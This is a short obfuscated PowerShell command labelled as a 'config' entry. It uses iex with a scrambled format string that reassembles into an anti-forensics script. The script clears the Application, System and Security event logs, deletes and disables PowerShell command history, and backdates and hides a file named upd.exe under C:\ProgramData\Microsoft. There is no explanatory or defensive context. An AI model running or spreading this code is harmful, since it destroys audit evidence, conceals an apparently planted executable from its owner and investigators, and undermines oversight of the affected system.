iex ("{2}{1}{6}{5}{4}{0}{3}" -f ' Get-Item C:\ProgramData\Microsoft\upd.exe
$f.CreationTime = ''01/01/2019 08:0','System, Securi','# config 9796 v4
Clear-EventLog -LogName Application, ','0:00''; $f.LastWriteTime = ''01/01/2019 08:00:00''
attrib +h +s C:\ProgramData\Microsoft\upd.exe
','Set-PSReadlineOption -HistorySaveStyle SaveNothing
$f =','n).HistorySavePath -Force
','ty
Remove-Item (Get-PSReadlineOptio')